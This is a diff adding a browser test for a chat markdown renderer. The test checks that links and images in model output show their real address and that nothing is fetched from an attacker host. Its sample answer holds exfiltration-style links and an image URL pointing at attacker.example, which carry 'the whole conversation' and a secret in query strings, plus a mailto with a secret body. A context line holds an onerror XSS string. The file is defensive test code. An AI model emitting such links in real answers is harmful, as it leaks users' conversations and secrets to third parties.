@@ -108,6 +108,32 @@ test('model text cannot create markup, scripts, handlers, images or unsafe links
   expect(r.text).toContain('<img src=x onerror="alert(2)">');
 });
 
+test('every link and image link shows where it really goes, next to its text: a friendly label cannot hide the address or its query string', async ({ page }) => {
+  const requests: string[] = [];
+  page.on('request', (req) => requests.push(req.url()));
+  const answer = 'See [the official docs](https://attacker.example/collect?c=the%20whole%20conversation) and ![the chart](https://attacker.example/p.png?d=secret), or [mail us](mailto:help@attacker.example?body=secret). Plain: <https://example.com/plain>.';
+  const r = await page.evaluate(async (text) => {
+    const { md, out } = window.mdTest;
+    for (const chunk of text.match(/[\s\S]{1,5}/g)!) md.append(chunk);
+    md.flush();
+    await new Promise((res) => setTimeout(res, 100));
+    return { text: (out as HTMLElement).innerText, links: [...out.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]) };
+  }, answer);
+  // What the reader sees, without hovering anything.
+  expect(r.text).toContain('the official docs (https://attacker.example/collect?c=the%20whole%20conversation)');
+  expect(r.text).toContain('image: the chart (https://attacker.example/p.png?d=secret)');
+  expect(r.text).toContain('mail us (mailto:help@attacker.example?body=secret)');
+  // An address that is its own label is not repeated.
+  expect(r.text).toContain('Plain: https://example.com/plain.');
+  expect(r.links).toEqual([
+    ['the official docs', 'https://attacker.example/collect?c=the%20whole%20conversation'],
+    ['image: the chart', 'https://attacker.example/p.png?d=secret'],
+    ['mail us', 'mailto:help@attacker.example?body=secret'],
+    ['https://example.com/plain', 'https://example.com/plain'],
+  ]);
+  expect(requests.filter((u) => u.includes('attacker.example'))).toEqual([]);
+});
+
 test('code blocks have a copy button that copies the code', async ({ page }) => {
   await page.evaluate(() => {
     window.mdTest.md.append('```python\nprint("hi")\n```\n');
